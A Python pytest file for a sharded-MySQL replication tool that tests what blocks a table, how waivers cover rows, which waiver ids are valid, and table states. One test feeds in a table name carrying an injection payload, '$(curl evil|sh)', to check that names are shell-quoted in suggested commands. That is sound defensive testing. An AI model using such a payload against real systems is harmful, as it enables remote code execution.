"""Tests what blocks a table that is complete by all lags and positions."""

import re
from collections.abc import Mapping
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from checks.blocks import (
    SINCE_GONE,
    Pause,
    TableFacts,
    TableState,
    find_blocks,
    find_shown_blocks,
    is_closed_for_good,
    is_waivable,
    pause_reasons,
    state_of,
    undecided_checks,
    unlogged_reasons,
    unproven_reason,
    waiver_id_of_text,
    waivers_of,
)
from checks.ledger import Residual, TableLosses
from checks.model import Reason, Verdict
from checks.readiness import assess
from monitor.observe.system_checks import given_up_id, of_holds
from pipeline.apply.foreign_commits import waiver_id
from pipeline.checkpoint import Existence, Gap, Quarantine
from pipeline.model import Hop, Missing, Order, Shard, Stage, Table
from pipeline.reports import Hold
from pipeline.sources.mysql.facts import Cascade, ServerFacts, ShardFacts, describe_source
from pipeline.sources.source import SourceDescription
from tests.builders.values import verdict
from tests.checks.samples import NOW, TABLE, healthy_checkpoint
from tests.checks.test_readiness import BOTH, MIRROR, inputs

OWN = frozenset({"shop", "shop.shop_00.orders", "shop.shop_01.orders"})
STATEMENTS = frozenset({"shop"})
GATING = frozenset({"range_counts"})
OWN_SHARDS = tuple(map(str, TABLE.shards))
ALL_SHARDS = (*OWN_SHARDS, "shop/o.t")
UNREAD = Quarantine(None, 3, 1, ("x:0:5@3",))


@pytest.mark.parametrize(
    ("topic", "shards", "blocked"),
    [
        pytest.param("shop.shop_01.orders", (), True, id="a topic of its own"),
        pytest.param("shop.other.t", ("shop/other.t",), False, id="another table's topic"),
        pytest.param(
            "shop.all_orders",
            ("shop/other.t", "shop/shop_01.orders"),
            True,
            id="a topic of no table, which may hold any",
        ),
        pytest.param("shop", (), True, id="the topic of its schema changes"),
        pytest.param("shop", ALL_SHARDS, True, id="that topic, before it has a new base"),
        pytest.param("shop", ("shop/o.t",), False, id="that topic, and others have none yet"),
        pytest.param(
            "shop.shop_01.orders", ("shop/o.t",), True, id="its own topic, whatever else is in it"
        ),
    ],
)
def test_an_unread_change_of_a_topic_blocks_every_table_it_may_concern(
    topic: str, shards: tuple[str, ...], blocked: bool
) -> None:
    unread = Quarantine(UNREAD.table, UNREAD.batch, UNREAD.count, UNREAD.ids, shards)
    taken = {"landed": healthy_checkpoint(quarantine={f"topic:{topic}": unread})}

    found = find_blocks(inputs(taken=taken, topics=OWN, statements=STATEMENTS), frozenset())

    assert [reason.id for reason in found] == (["x:0:5@3"] if blocked else [])


def test_an_unread_change_names_its_table_or_else_its_topic_which_is_one_cause_for_all() -> None:
    known = Quarantine(TABLE.name, 3, 1, ("t:0:1@3",))
    taken = {
        "landed": healthy_checkpoint(quarantine={"shop/shop_01.orders": known, "topic:x": UNREAD})
    }

    found = find_blocks(inputs(taken=taken), frozenset())

    assert [(reason.text, reason.cause) for reason in found] == [
        (f"{TABLE.name}: undecoded change t:0:1@3", ""),
        ("topic:x: undecoded change x:0:5@3", "topic:x"),
    ]


@pytest.mark.parametrize(
    ("gap", "blocked"),
    [
        pytest.param(Gap("g", "t", 0, 1, 9, "x"), True, id="one that names nobody"),
        pytest.param(Gap("g", "t", 0, 1, 9, "x", tables=(TABLE.name,)), True, id="its table's"),
        pytest.param(
            Gap("g", "t", 0, 1, 9, "x", shards=("shop/shop_00.orders",)), True, id="a shard's"
        ),
        pytest.param(Gap("g", "t", 0, 1, 9, "x", tables=("o.t",)), False, id="another table's"),
        pytest.param(
            Gap("g", "t", 0, 1, 9, "x", shards=("shop/o.t",)), False, id="another shard's"
        ),
    ],
)
def test_a_gap_blocks_whom_it_may_concern(gap: Gap, *, blocked: bool) -> None:
    taken = {"landed": healthy_checkpoint(gaps={"g": gap})}

    found = find_blocks(inputs(taken=taken), frozenset())

    assert [reason.id for reason in found] == (["g"] if blocked else [])


@pytest.mark.parametrize(
    ("name", "written"),
    [("shop.orders", "shop.orders"), ("shop.a$(curl evil|sh)", "'shop.a$(curl evil|sh)'")],
    ids=["an ordinary name", "a command"],
)
def test_a_command_in_a_reason_names_the_table_alone(name: str, written: str) -> None:
    """A person pastes it into a shell."""
    gap = Gap("g", "t", 0, 1, 9, "x", tables=(name,))
    own = inputs(taken={"landed": healthy_checkpoint(gaps={"g": gap})})

    found = find_blocks(replace(own, table=replace(own.table, name=name)), frozenset())
    paused = pause_reasons(
        Pause(name, "a migration", "ann", NOW), Stage.MIRROR, NOW + timedelta(days=1)
    )

    assert [one.text.partition("sluice ")[2] for one in found] == [
        f"bootstrap {written} --reason ..."
    ]
    assert f"`sluice resume {written}`" in paused[0].text


@pytest.mark.parametrize(
    ("gap", "cause"),
    [
        pytest.param(Gap("g", "t", 0, 1, 9, "x"), "g", id="one that names nobody"),
        pytest.param(Gap("g", "t", 0, 1, 9, "x", tables=(TABLE.name,)), "", id="its table's"),
        pytest.param(Gap("g", "t", 0, 1, 9, "x", shards=("shop/shop_00.orders",)), "", id="own"),
        pytest.param(Gap("g", "t", 0, 1, 9, "x", shards=OWN_SHARDS), "", id="all of its own"),
        pytest.param(Gap("g", "t", 0, 1, 9, "x", shards=ALL_SHARDS), "g", id="a source's"),
        pytest.param(
            Gap("g", "t", 0, 1, 9, "x", tables=("o.t", TABLE.name)), "g", id="two tables'"
        ),
        pytest.param(
            Gap("g", "t", 0, 1, 9, "x", tables=(TABLE.name,), shards=("shop/o.t",)),
            "g",
            id="its own, and another's shard",
        ),
        pytest.param(
            Gap("g", "t", 0, 1, 9, "x", shards=OWN_SHARDS, shared=True),
            "g",
            id="the last of several",
        ),
    ],
)
def test_f33_a_gap_that_others_may_miss_too_is_one_cause_for_all(gap: Gap, cause: str) -> None:
    taken = {"landed": healthy_checkpoint(gaps={"g": gap})}

    assert [one.cause for one in find_blocks(inputs(taken=taken), frozenset())] == [cause]


@pytest.mark.parametrize(
    ("gaps", "reason", "cause"),
    [
        pytest.param((), "gap", "", id="no gap is known any more"),
        pytest.param((OWN_SHARDS,), "gap", "", id="its own"),
        pytest.param((("shop/o.t",),), "gap", "", id="another's"),
        pytest.param((ALL_SHARDS,), "gap", "g0", id="a source's"),
        pytest.param((OWN_SHARDS, ALL_SHARDS), "gap", "g1", id="its own, and a source's"),
        pytest.param((ALL_SHARDS,), "schema", "", id="held for something else"),
    ],
)
def test_f33_a_table_held_for_a_gap_has_the_gaps_cause(
    gaps: tuple[tuple[str, ...], ...], reason: str, cause: str
) -> None:
    open_ = [Gap(f"g{n}", "t", 0, 1, 9, "x", shards=names) for n, names in enumerate(gaps)]
    taken = {"landed": healthy_checkpoint(gaps={gap.id: gap for gap in open_})}
    held = (Hold("held", TABLE.name, reason, "x"),)

    found = find_blocks(inputs(taken=taken, holds=held), frozenset())

    assert [one.cause for one in found if one.id == "held"] == [cause]


@pytest.mark.parametrize(
    ("holds", "causes"),
    [
        pytest.param([("a", TABLE.name, "schema")], [""], id="its own"),
        pytest.param([("a", TABLE.name, "unreachable")], ["lake"], id="the lake does not answer"),
        pytest.param([("a", "source:shop", "disorder")], ["source:shop"], id="its source"),
        pytest.param([("a", "source:shop", "unreachable")], ["source:shop"], id="its source's"),
        pytest.param(
            [("a", "source:shop", "lane"), ("a", "source:other", "lane")], ["a"], id="all sources"
        ),
        pytest.param(
            [("a", "source:shop", "disorder"), ("b", "source:other", "disorder")],
            ["source:shop"],
            id="two sources, each for itself",
        ),
    ],
)
def test_f33_a_hold_says_whom_it_holds(
    holds: list[tuple[str, str, str]], causes: list[str]
) -> None:
    told = tuple(Hold(id_, subject, reason, "x") for id_, subject, reason in holds)

    assert [one.cause for one in find_blocks(inputs(holds=told), frozenset())] == causes


@pytest.mark.parametrize(
    ("told", "undecided_"),
    [
        pytest.param((verdict("pass", table="other.t"),), True, id="of another table"),
        pytest.param((verdict("unknown"), verdict("pass")), True, id="at one instant"),
    ],
)
def test_what_is_not_known_now_is_listed(told: tuple[Verdict, ...], *, undecided_: bool) -> None:
    found = undecided_checks(inputs(verdicts=told), GATING)

    assert bool(found) is undecided_


@pytest.mark.parametrize(
    ("rulings", "undecided_"),
    [
        pytest.param((), True, id="never ruled"),
        pytest.param(("pass",), False, id="right"),
        pytest.param(("fail",), False, id="wrong is a ruling too"),
        pytest.param(("unknown", "pass"), False, id="known by now"),
        pytest.param(("pass", "unknown"), True, id="known before"),
    ],
)
def test_a_gating_check_without_a_ruling_is_listed(
    rulings: tuple[str, ...], *, undecided_: bool
) -> None:
    told = tuple(verdict(one, at=NOW - timedelta(seconds=9 - at)) for at, one in enumerate(rulings))

    found = [
        undecided_checks(inputs(verdicts=verdicts), frozenset({"range_counts"}))
        for verdicts in (told, told[::-1])
    ]

    assert found == [("range_counts",) if undecided_ else ()] * 2


def test_an_empty_waiver_waives_nothing_that_nobody_can_waive() -> None:
    taken = inputs(verdicts=(verdict("fail"),), waived=frozenset({""}))

    assert [one.code for one in find_blocks(taken, GATING)] == ["check_failed"]


def test_they_are_worked_out_once_for_all_questions_of_a_round() -> None:
    taken = inputs(verdicts=(verdict("fail"),))

    assert find_blocks(taken, GATING) is find_blocks(taken, GATING)
    assert undecided_checks(taken, frozenset({"schema"})) is undecided_checks(
        taken, frozenset({"schema"})
    )


def test_what_was_worked_out_is_not_handed_on_to_what_is_known_later() -> None:
    taken = inputs()
    before = find_blocks(taken, GATING), undecided_checks(taken, GATING)

    later = replace(taken, verdicts=(verdict("fail"),))

    assert before == ((), ("range_counts",))
    assert [one.code for one in find_blocks(later, GATING)] == ["check_failed"]
    assert undecided_checks(later, GATING) == ()


def test_to_have_been_asked_changes_nothing_of_what_is_known() -> None:
    asked, unasked = inputs(), inputs()

    find_blocks(asked, GATING), undecided_checks(asked, GATING)

    assert (asked, repr(asked)) == (unasked, repr(unasked))


RANGE = f"range_counts:{TABLE.name}:shop/shop_00.orders:"


@pytest.mark.parametrize(
    ("fail", "waived", "left"),
    [
        pytest.param(verdict("fail", "s/t:1-200"), {"1-200"}, (), id="all of it"),
        pytest.param(verdict("fail", "s/t:1-200", more=800), {"1-200"}, ("",), id="it is cut off"),
        pytest.param(verdict("fail", "s/t:1-205"), {"1-200"}, ("201-205",), id="it grew"),
        pytest.param(verdict("fail", "s/t:7"), {"1-200"}, (), id="one row of it"),
        pytest.param(
            verdict("fail", "s/t:-3-4"), {"0-1"}, ("-3--1", "2-4"), id="the middle, below 0"
        ),
        pytest.param(verdict("fail", "s/t:1-9"), {"1-3", "2-5", "9"}, ("6-8",), id="they overlap"),
        pytest.param(verdict("fail", "s/t:1-9"), {"20-30"}, ("1-9",), id="other rows"),
        pytest.param(verdict("fail", "s/u:1-9"), {"1-9"}, ("u:1-9",), id="another shard"),
        pytest.param(verdict("fail", "s/t:4", "s/t:8"), {"4"}, ("8",), id="one of two"),
        pytest.param(verdict("fail", "s/t:x", "s/t:y"), {"x"}, ("y",), id="one of two texts"),
        pytest.param(verdict("fail"), {"4"}, ("",), id="nothing is named"),
        pytest.param(
            verdict("fail", *[f"s/t:{n}" for n in range(0, 40, 2)]),
            {"0-100"},
            (),
            id="as many as some checks name",
        ),
        pytest.param(
            verdict("fail", *[f"s/t:{n}" for n in range(0, 42, 2)]), {"0-100"}, (), id="more"
        ),
    ],
)
def test_f103_a_waiver_covers_only_the_rows_it_names(
    fail: Verdict, waived: set[str], left: tuple[str, ...]
) -> None:
    prefix = f"range_counts:{TABLE.name}:s/"
    ids = frozenset(f"{prefix}t:{one}" for one in waived)

    found = waivers_of(fail, ids)

    names = [one if one.startswith("u:") or not one else f"t:{one}" for one in left]
    assert found == tuple(prefix + one if one else "" for one in names)


def test_a_finding_of_many_rows_gives_some_reasons_and_counts_the_others() -> None:
    fail = verdict("fail", *[f"s/t:{n}" for n in range(0, 60, 2)])

    found = find_shown_blocks(inputs(verdicts=(fail,)), GATING)

    *named, last = found
    assert [one.id for one in named] == [
        f"range_counts:{TABLE.name}:s/t:{n}" for n in range(0, 40, 2)
    ]
    assert (last.id, last.text.partition(":")[0]) == (
        "",
        "10 more keys or ranges of this finding block, too",
    )


def residuals(number: int) -> TableLosses:
    at = datetime(2026, 3, 28, 12, tzinfo=UTC)
    found = (Residual(Hop.MERGE, at + timedelta(minutes=n), {n: {"c": 1}}) for n in range(number))
    return TableLosses(tuple(found), more=5)


def test_many_residuals_give_some_reasons_and_count_the_others() -> None:
    losses = residuals(600)
    ids = [f"ledger:{TABLE.name}:{one.key}" for one in losses.residuals]

    *named, last, more = find_shown_blocks(inputs(losses=losses), GATING)
    later = find_shown_blocks(inputs(losses=losses, waived=frozenset(ids[:20])), GATING)

    assert [one.id for one in named] == ids[:20]
    assert (last.id, last.text.partition(":")[0]) == ("", "580 more residuals block, too")
    assert (more.id, more.text.partition(";")[0]) == (
        "",
        "5 more of the ledger's messages or rows did not come out",
    )
    assert [one.id for one in later[:20]] == ids[20:40]


def test_an_incident_of_many_residuals_says_how_many_it_does_not_name() -> None:
    reasons = find_blocks(inputs(losses=residuals(600)), GATING)

    (ledger,) = [v for v in of_holds(TABLE.name, reasons, NOW) if v.check == "ledger"]

    assert (len(ledger.ruling.keys), ledger.ruling.more) == (20, 580)
    assert ledger.ruling.is_cut_off


def test_a_residual_that_may_go_on_cannot_be_waived() -> None:
    (one,) = residuals(1).residuals

    (found,) = find_blocks(inputs(losses=TableLosses((replace(one, whole=False),))), GATING)

    assert (found.code, found.id) == ("residual", "")


def test_f103_rows_that_no_waiver_names_block() -> None:
    fail = verdict("fail", "shop/shop_00.orders:1-200", more=800)

    found = find_blocks(inputs(verdicts=(fail,), waived=frozenset({f"{RANGE}1-200"})), GATING)

    assert [(one.code, one.id) for one in found] == [("check_failed", "")]


SEES_ALL = "GRANT SELECT ON *.* TO `sluice`@`%`"
SERVER = ServerFacts((8, 0), mariadb=False, grants=(SEES_ALL,))
BLIND = replace(SERVER, grants=("GRANT SELECT ON `other`.* TO `sluice`@`%`",))
GOES = Cascade("goes", "shop.teams", "ON DELETE CASCADE")
ONE, TWO = Shard("a", "shop.people_0"), Shard("b", "shop.people_1")
PEOPLE = Table("shop.people", (ONE, TWO))


def source_description(server: ServerFacts, *shards: ShardFacts) -> SourceDescription:
    """Of a MySQL, asked about all that it shows and the table's own shards."""
    asked = {ONE.name, TWO.name, *(one.shard.name for one in shards)}
    return describe_source(server, shards, asked)


ONES, TWOS = ShardFacts(ONE), ShardFacts(TWO)
GOING = ShardFacts(TWO, cascades=(GOES,))
PLAIN, OTHER, CASCADING = (
    source_description(SERVER, ONES),
    source_description(SERVER, TWOS),
    source_description(SERVER, GOING),
)
STRANGER = ShardFacts(Shard("b", "shop.strangers"), cascades=(GOES,))


@pytest.mark.parametrize(
    ("sources", "why"),
    [
        pytest.param({"a": PLAIN, "b": OTHER}, "", id="no cascade anywhere"),
        pytest.param({"a": PLAIN, "b": CASCADING}, "shop.teams", id="a cascade in one shard"),
        pytest.param({"b": CASCADING}, "shop.teams", id="found, whatever the other source says"),
        pytest.param(
            {"a": PLAIN, "b": source_description(SERVER, TWOS, STRANGER)}, "", id="another table's"
        ),
        pytest.param(
            {"a": PLAIN, "b": source_description(SERVER)}, "", id="dropped: it would be seen"
        ),
        pytest.param({"a": PLAIN, "b": source_description(BLIND)}, None, id="hidden from the user"),
        pytest.param({"a": PLAIN}, None, id="one source not asked"),
        pytest.param({"a": PLAIN, "b": Missing("down")}, None, id="one source silent"),
        pytest.param({}, None, id="nobody asked"),
    ],
)
def test_a_table_is_proven_only_if_every_source_says_so(
    sources: Mapping[str, SourceDescription | Missing], why: str | None
) -> None:
    found = unproven_reason(PEOPLE, sources)

    if why is None:
        assert isinstance(found, Missing)
        assert "source b" in found.why or "source a" in found.why
    else:
        assert isinstance(found, str)
        assert why in found
        assert bool(found) is bool(why)


def test_a_server_that_logs_cascades_proves_the_table() -> None:
    newer = replace(SERVER, version=(9, 7))

    assert unproven_reason(PEOPLE, {"a": PLAIN, "b": source_description(newer, GOING)}) == ""


def test_a_source_that_is_silent_is_named_once() -> None:
    silent = Missing("source:a: loaded: 65 threads run, limits.running is 64")

    said = unproven_reason(PEOPLE, {"a": silent, "b": OTHER})

    why = "source a has not described its tables: loaded: 65 threads run, limits.running is 64"
    assert said == Missing(why)


@pytest.mark.parametrize(
    "other",
    [
        pytest.param(source_description(SERVER, GOING), id="another foreign key"),
        pytest.param(Missing("down"), id="a source that does not answer"),
        pytest.param(source_description(BLIND), id="a table that is hidden"),
    ],
)
def test_a_waiver_of_one_shard_hides_nothing_of_another(other: SourceDescription | Missing) -> None:
    one = Cascade("fk_a", "shop.groups", "ON DELETE CASCADE")
    own = replace(GOING, shard=PEOPLE.shards[0], cascades=(one,))
    sources = {"a": source_description(SERVER, own), "b": source_description(SERVER, TWOS)}
    (waived,) = unlogged_reasons(PEOPLE, unproven_reason(PEOPLE, sources))

    (both,) = unlogged_reasons(PEOPLE, unproven_reason(PEOPLE, sources | {"b": other}))

    assert "shop.groups" in both.text
    assert both.id != waived.id


def test_causes_of_many_shards_are_named_in_part_and_have_one_id() -> None:
    shards = tuple(Shard("a", f"shop.people_{number}") for number in range(9))
    table = replace(PEOPLE, shards=shards)
    causes = {one.name: f"a cascade of {one.name}" for one in shards}
    said = source_description(SERVER)

    few = unproven_reason(table, {"a": replace(said, unlogged=causes)})
    changed = causes | {"shop.people_8": "a cascade of another key"}
    others = unproven_reason(table, {"a": replace(said, unlogged=changed)})
    (reason,), (other,) = unlogged_reasons(table, few), unlogged_reasons(table, others)

    assert reason.text.count("a cascade") == 3
    assert "and 6 more" in reason.text
    assert reason.id != other.id


GUIDE = Path(__file__).parents[2] / "docs" / "guides" / "waive.md"
NUMBERS = re.compile("PARTITION|FIRST|BATCH|OFFSET|VERSION|EPOCH|NUMBER|SINCE|RESIDUAL")


def forms() -> list[str]:
    """The ids in the table of `docs/guides/waive.md`."""
    text = GUIDE.read_text(encoding="utf-8").partition("\n| what | id |\n")[2]
    rows = text.partition("\n\n")[0].splitlines()[1:]
    return [form for row in rows for form in re.findall("`([^`]+)`", row.split(" | ")[1])]


@pytest.mark.parametrize("form", forms())
def test_every_id_that_the_guide_names_can_be_waived(form: str) -> None:
    assert is_waivable(NUMBERS.sub("7", form).replace("DIGEST", "0123abcd"))


@pytest.mark.parametrize(  # without numbers TOPIC:... has the form of CHECK:TABLE:KEY
    "form", [form for form in forms() if NUMBERS.search(form) and not form.startswith("TOPIC")]
)
def test_an_id_copied_from_the_guide_without_its_numbers_is_none(form: str) -> None:
    assert not is_waivable(form)


@pytest.mark.parametrize(
    "id_",
    [
        *Quarantine(None, 9, 7, ("shop.shop.users:0:1042@8",)).names("topic:shop.shop.users"),
        "my-shop.shop.users:0:1042@8",  # topics may have names that no table has
        "account:0:1042@8",
        "invalid:shop.users:5-9@5f3a90c1",
        waiver_id("shop.users", 0),
        given_up_id("slack", 3),
        "schema:shop.users@1774785600",
        "unbalanced:shop.users@-3",
        waiver_id_of_text("unproven:shop.users", "a cascade"),
        "no_base:shop/shop.users@0",
        "no_base:shop/shop.users@1.7.5.0",
        "range_counts:shop.users:1..100",
        "our.probes.sums:shop.users:a\nb",
    ],
)
def test_what_the_product_names_can_be_waived(id_: str) -> None:
    assert is_waivable(id_)


@pytest.mark.parametrize(
    "id_",
    [
        *("schema:shop.users", "unbalanced:shop.users", "unproven:shop.users"),
        *(
            "no_base:shop/shop.users",
            "unproven:shop.users@x",
            "nonsense",
            "shop.users",
            "schema:",
            ":shop.users",
            "two words:shop.users",
        ),
        *("shop.shop.users:0:1042", "no_base:shop.users", "snapshot:shop/shop.users"),
        *("foreign_write:shop.users", "foreign_write:shop.users:-1", "account:shop.users"),
        *("rules:shop.users@4", "dead_letters:slack", "disorder:shop:shop.shop.users:0:1"),
        *("invalid:shop.users:5-9", "invalid:shop.users:5-9@mirror"),
    ],
)
def test_what_nothing_is_named_cannot(id_: str) -> None:
    assert not is_waivable(id_)


CLOSED = (
    "TOPIC:",
    "rules:",
    "lists:",
    "log:",
    "again:",
    "outdated:",
    "torn:",
    "unkept:",
    "hidden:",
    "snapshot:",
)


@pytest.mark.parametrize("form", [one for one in forms() if one.startswith((*CLOSED, "disorder:"))])
def test_f103_what_landing_closes_is_closed_for_good(form: str) -> None:
    assert is_closed_for_good(NUMBERS.sub("7", form))


@pytest.mark.parametrize(
    "form", [one for one in forms() if not one.startswith((*CLOSED, "disorder:"))]
)
def test_f103_what_is_judged_in_each_round_is_not_closed_for_good(form: str) -> None:
    assert not is_closed_for_good(NUMBERS.sub("7", form).replace("DIGEST", "0123abcd"))


@pytest.mark.parametrize(
    ("first", "later", "ready"),
    [
        pytest.param("a cascade from a", "a cascade from b", False, id="another foreign key"),
        pytest.param("a cascade from a", f"a cascade from a{SINCE_GONE}", True, id="dropped"),
        pytest.param(
            Missing("loaded: 65 threads run"), Missing("loaded: 70 threads run"), True, id="still"
        ),
        pytest.param(Missing("down"), Missing("hidden"), False, id="another kind of not knowing"),
        pytest.param(Missing("down"), "a cascade from a", False, id="it is known by now"),
    ],
)
def test_a_waiver_of_what_no_log_shows_ends_with_it(
    first: str | Missing, later: str | Missing, ready: bool
) -> None:
    waived = frozenset({assess(MIRROR, inputs(unproven=first), BOTH).reasons[0].id})

    answer = assess(MIRROR, inputs(unproven=later, waived=waived), BOTH)

    assert answer.ready is ready
    assert all(is_waivable(reason.id) for reason in answer.reasons if reason.id)


@pytest.mark.parametrize(
    ("existing", "ready"),
    [
        pytest.param(Existence(Order(1, 7, 5), there=True), True, id="the same shard"),
        pytest.param(Existence(Order(1, 7, 9), there=True), False, id="made anew since"),
    ],
)
def test_a_waiver_of_a_missing_base_ends_when_the_shard_is_made_anew(
    existing: Existence, ready: bool
) -> None:
    shard = TABLE.shards[0]
    bases = {TABLE.shards[1]: Order(1, 1, 1)}
    before = healthy_checkpoint(
        bases=bases, existing={shard: Existence(Order(1, 7, 5), there=True)}
    )
    (reason, *_) = assess(MIRROR, inputs(taken={"landed": before}), BOTH).reasons
    now = healthy_checkpoint(bases=bases, existing={shard: existing})

    answer = assess(MIRROR, inputs(taken={"landed": now}, waived=frozenset({reason.id})), BOTH)

    assert reason.code == "no_base"
    assert is_waivable(reason.id)
    assert answer.ready is ready


NOON = datetime(2026, 3, 29, 12, tzinfo=UTC)
PAUSE = Pause("shop.a", "a migration", "ann", NOON)
GAP, BASE = Reason("gap", "a gap"), Reason("no_base", "no base yet")
GROWN = TableFacts(based=True, bare=False)


@pytest.mark.parametrize(
    ("facts", "state", "why"),
    [
        pytest.param(GROWN, "incremental", "", id="all goes on"),
        pytest.param(
            TableFacts(False, True, blocked=(BASE,)), "new", "no base yet", id="it has nothing yet"
        ),
        pytest.param(
            TableFacts(True, True), "new", "nothing is merged into its mirror yet", id="no mirror"
        ),
        pytest.param(
            TableFacts(False, True, first="3 of 5 rows", blocked=(BASE,)),
            "bootstrap",
            "3 of 5 rows",
            id="its first snapshot is read",
        ),
        pytest.param(
            TableFacts(False, True, backfill="3 rows", blocked=(BASE,)),
            "bootstrap",
            "3 rows",
            id="it is read by request before it had anything",
        ),
        pytest.param(
            TableFacts(False, False, backfill="3 rows", blocked=(BASE,)),
            "re-bootstrap",
            "3 rows",
            id="it lost its base, and is read again",
        ),
        pytest.param(
            TableFacts(True, False, backfill="3 rows", blocked=(GAP,)),
            "re-bootstrap",
            "3 rows",
            id="it is read again for a gap",
        ),
        pytest.param(
            TableFacts(True, False, blocked=(GAP, BASE)), "held", "a gap", id="something blocks it"
        ),
        pytest.param(
            TableFacts(False, False, blocked=(BASE,)),
            "held",
            "no base yet",
            id="a mirror of which a shard has no base",
        ),
        pytest.param(
            TableFacts(False, True, blocked=(BASE, GAP)), "held", "no base yet", id="both, and bare"
        ),
        pytest.param(
            TableFacts(True, False, "first", "again", (GAP,), PAUSE),
            "paused",
            PAUSE.description,
            id="a person comes first",
        ),
    ],
)
def test_state(facts: TableFacts, state: str, why: str) -> None:
    assert state_of(facts) == (TableState(state), why)
